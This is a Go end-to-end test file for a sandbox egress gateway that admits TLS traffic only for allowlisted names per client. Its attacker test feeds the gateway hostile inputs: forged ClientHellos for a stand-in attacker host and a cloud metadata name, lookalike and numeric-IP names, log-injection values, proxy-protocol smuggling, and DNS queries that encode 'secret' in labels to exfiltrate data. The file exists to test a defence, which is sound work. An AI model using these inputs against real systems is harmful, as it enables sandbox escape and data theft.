//go:build linux

package e2e

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/miekg/dns"
)

// Whoever is in the sandbox sends what it likes. One name is allowed; whatever is not a ClientHello for that
// name gets no further than the gateway: not a packet, and not a question to the resolver.
func TestAttacker(t *testing.T) { byEachWay(t, testAttacker) }

func testAttacker(t *testing.T, c config) {
	t.Parallel() // it waits for most of the time: denials alike are logged once a second
	const allowed = "api.example.com"
	l := newLab(t)
	c.policy = allowing(allowed)
	g := l.start(t, c)
	for name, a := range map[string]netip.Addr{allowed: webAddr, "evil.example.net": otherAddr} {
		if _, err := l.internet.host(name, a); err != nil {
			t.Fatal(err)
		}
	}
	syns := newTap(t, l.gateway, func(p packet) bool { return p.out && p.syn })
	valid := forgedHello(serverNames(allowed))
	for _, tc := range []struct {
		name   string
		sent   []byte
		alert  int
		reason string
	}{
		{"no name", forgedHello(), alertUnrecognizedName, "no_name"},
		{"empty list", forgedHello(serverNames()), alertDecodeError, "hello_malformed"},
		{"empty name", forgedHello(serverNames("")), alertDecodeError, "hello_malformed"},
		{"not allowed", forgedHello(serverNames("evil.example.net")), alertUnrecognizedName, "not_allowed"},
		{"parent", forgedHello(serverNames("example.com")), alertUnrecognizedName, "not_allowed"},
		{"child", forgedHello(serverNames("x." + allowed)), alertUnrecognizedName, "not_allowed"},
		{"suffix without a dot", forgedHello(serverNames("evil" + allowed)), alertUnrecognizedName, "not_allowed"},
		{"allowed as a prefix", forgedHello(serverNames(allowed + ".evil.example.net")), alertUnrecognizedName, "not_allowed"},
		{"single label", forgedHello(serverNames("localhost")), alertUnrecognizedName, "not_allowed"},
		{"metadata name", forgedHello(serverNames("metadata.google.internal")), alertUnrecognizedName, "not_allowed"},
		{"IPv4 address", forgedHello(serverNames("93.184.216.34")), alertUnrecognizedName, "bad_name"},
		{"IPv4 address, one number", forgedHello(serverNames("1572395042")), alertUnrecognizedName, "bad_name"},
		{"IPv4 address, hexadecimal", forgedHello(serverNames("0x5db8d822")), alertUnrecognizedName, "bad_name"},
		{"IPv6 address", forgedHello(serverNames("2606:4700::1111")), alertUnrecognizedName, "bad_name"},
		{"IPv6 address in brackets", forgedHello(serverNames("[2606:4700::1111]")), alertUnrecognizedName, "bad_name"},
		{"name and port", forgedHello(serverNames(allowed + ":22")), alertUnrecognizedName, "bad_name"},
		{"URL", forgedHello(serverNames("https://" + allowed)), alertUnrecognizedName, "bad_name"},
		{"dial string", forgedHello(serverNames("unix//run/caddy-admin.sock")), alertUnrecognizedName, "bad_name"},
		{"NUL", forgedHello(serverNames(allowed + "\x00.evil.example.net")), alertUnrecognizedName, "bad_name"},
		{"line feed", forgedHello(serverNames(allowed + "\n{\"level\":\"info\"}")), alertUnrecognizedName, "bad_name"},
		{"Kelvin sign", forgedHello(serverNames("\u212aube.example.com")), alertUnrecognizedName, "bad_name"},
		{"ideographic full stop", forgedHello(serverNames("api\u3002example\u3002com")), alertUnrecognizedName, "bad_name"},
		{"wildcard", forgedHello(serverNames("*.example.com")), alertUnrecognizedName, "bad_name"},
		{"leading dot", forgedHello(serverNames("." + allowed)), alertUnrecognizedName, "bad_name"},
		{"long label", forgedHello(serverNames(strings.Repeat("a", 64) + ".example.com")), alertUnrecognizedName, "bad_name"},
		{"two names", forgedHello(serverNames(allowed, "evil.example.net")), alertDecodeError, "hello_malformed"},
		{"two names, allowed last", forgedHello(serverNames("evil.example.net", allowed)), alertDecodeError, "hello_malformed"},
		{"two extensions", forgedHello(serverNames(allowed), serverNames("evil.example.net")), alertDecodeError, "hello_malformed"},
		{"length beyond the extension", spoil(valid, len(valid)-len(allowed)-1, 0xff), alertDecodeError, "hello_malformed"},
		{"ServerHello", spoil(valid, 5, 2), alertDecodeError, "hello_malformed"},
		{"application data", spoil(valid, 0, 23), noAlert, "not_tls"},
		{"SSLv2", append([]byte{0x80, 0x2e, 1, 3, 1}, make([]byte, 43)...), noAlert, "not_tls"},
		{"DTLS", spoil(valid, 1, 0xfe), noAlert, "not_tls"},
		{"HTTP", []byte("GET / HTTP/1.1\r\nHost: " + allowed + "\r\n\r\n"), noAlert, "not_tls"},
		{"CONNECT", []byte("CONNECT evil.example.net:443 HTTP/1.1\r\n\r\n"), noAlert, "not_tls"},
		{"SSH", []byte("SSH-2.0-OpenSSH_9.2\r\n"), noAlert, "not_tls"},
		{"STARTTLS", append([]byte("EHLO sandbox\r\n"), valid...), noAlert, "not_tls"},
		{"PROXY header", append([]byte("PROXY TCP4 10.0.0.1 10.0.0.2 1 443\r\n"), valid...), noAlert, "not_tls"},
		{"PROXY header, version 2", append([]byte("\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\n\x00\x00\x01\n\x00\x00\x02\x00\x01\x01\xbb"), valid...), noAlert, "not_tls"},
		{"SOCKS", []byte{5, 1, 0}, noAlert, "not_tls"},
		{"noise", bytes.Repeat([]byte{0xa5}, 4096), noAlert, "not_tls"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			mark := g.caddy.log.mark()
			answer := l.send(t, tc.sent)
			if a := alert(answer); a != tc.alert || a == noAlert && len(answer) != 0 {
				t.Errorf("alert %d (%x came back), want %d", a, answer, tc.alert)
			}
			var ds []decision
			must(t, applies, "the denial is logged", func() bool { ds = g.decisions(mark); return len(ds) > 0 })
			if len(ds) != 1 || ds[0].Verdict != "deny" || ds[0].Reason != tc.reason || ds[0].Msg != msgDenied {
				t.Errorf("decisions %+v, want one denial with reason %s", ds, tc.reason)
			}
		})
	}

	t.Run("resolved, then another name", func(t *testing.T) {
		// What DNS said of one name is worth nothing for another one.
		if !g.knows(t, allowed) {
			t.Fatal("CoreDNS does not know the allowed name")
		}
		if _, err := l.tunnel("evil.example.net"); !errors.Is(err, alertError(alertUnrecognizedName)) {
			t.Errorf("%v, want unrecognized_name", err)
		}
	})
	t.Run("data in questions", func(t *testing.T) {
		for i, qtype := range []uint16{dns.TypeA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeCNAME, dns.TypeHTTPS, dns.TypeANY} {
			if r := g.ask(t, fmt.Sprintf("c2VjcmV0-%d.evil.example.net", i), qtype); r.Rcode != dns.RcodeNameError {
				t.Errorf("%s: %s, want NXDOMAIN", dns.TypeToString[qtype], dns.RcodeToString[r.Rcode])
			}
		}
		for _, qtype := range []uint16{dns.TypeAXFR, dns.TypeIXFR} {
			if r := g.ask(t, allowed, qtype); r.Rcode != dns.RcodeRefused || len(r.Answer) != 0 {
				t.Errorf("%s: %s, %d records", dns.TypeToString[qtype], dns.RcodeToString[r.Rcode], len(r.Answer))
			}
		}
	})
	if got := syns.packets(t); len(got) != 0 {
		t.Errorf("the gateway tried to connect to %+v", got)
	}
	if names := l.internet.dns.below("."); len(names) != 0 {
		t.Errorf("the gateway asked for %q", names)
	}

	// That the gateway can be reached by another of its addresses changes nothing either: it goes where the
	// allowed name is, which is the one thing that its client can choose.
	t.Run("the gateway's public address", func(t *testing.T) {
		c, err := l.sandbox.dial("tcp", netip.AddrPortFrom(publicAddr, 443))
		if err != nil {
			t.Fatal(err)
		}
		if body, err := getPage(tls.Client(c, l.ca.client(allowed)), allowed); err != nil || body != page(allowed) {
			t.Errorf("%q, %v", body, err)
		}
		for _, p := range syns.packets(t) {
			if p.to != webAddr || p.port != 443 {
				t.Errorf("the gateway tried to connect to %s port %d", p.to, p.port)
			}
		}
	})
	if n := g.metric(t, "caddy_sandboxallow_panics_total"); n != 0 {
		t.Errorf("%v panics", n)
	}
}

// spoil returns b with another octet at i.
func spoil(b []byte, i int, to byte) []byte {
	b = bytes.Clone(b)
	b[i] = to
	return b
}

// The client's address selects its policy: two sandboxes behind one gateway have two lists.
func TestClientPolicies(t *testing.T) {
	l := newLab(t)
	other := netip.MustParseAddr("172.30.0.70")
	if err := l.sandbox.ip("addr", "add", other.String()+"/24", "dev", linkGateway); err != nil {
		t.Fatal(err)
	}
	g := l.start(t, config{policy: `policy default {
	allow api.example.com
}
policy research {
	client 172.30.0.64/26
	allow  www.example.org
}
policy nothing {
	client 172.30.0.100/32
}
`})
	for name, a := range map[string]netip.Addr{"api.example.com": webAddr, "www.example.org": otherAddr} {
		if _, err := l.internet.host(name, a); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct {
		from   netip.Addr
		name   string
		policy string
		admits bool
	}{
		{sandboxAddr6, "api.example.com", "default", true},
		{sandboxAddr6, "www.example.org", "default", false},
		{other, "api.example.com", "research", false},
		{other, "www.example.org", "research", true},
		{sandboxAddr, "api.example.com", "nothing", false},
	} {
		t.Run(tc.from.String()+" "+tc.name, func(t *testing.T) {
			mark := g.caddy.log.mark()
			server := gatewayAddr
			if tc.from.Is6() {
				server = gatewayAddr6
			}
			c, err := l.sandbox.dialFrom(tc.from, "tcp", netip.AddrPortFrom(server, 443))
			if err != nil {
				t.Fatal(err)
			}
			body, err := getPage(tls.Client(c, l.ca.client(tc.name)), tc.name)
			if admits := err == nil && body == page(tc.name); admits != tc.admits {
				t.Errorf("%q, %v, want it admitted: %t", body, err, tc.admits)
			}
			msg := msgDenied
			if tc.admits {
				msg = msgAllowed
			}
			if d := g.decided(t, mark, msg, tc.name); d.Client != tc.from || d.Policy != tc.policy {
				t.Errorf("decision %+v, want policy %s for %s", d, tc.policy, tc.from)
			}
		})
	}
}
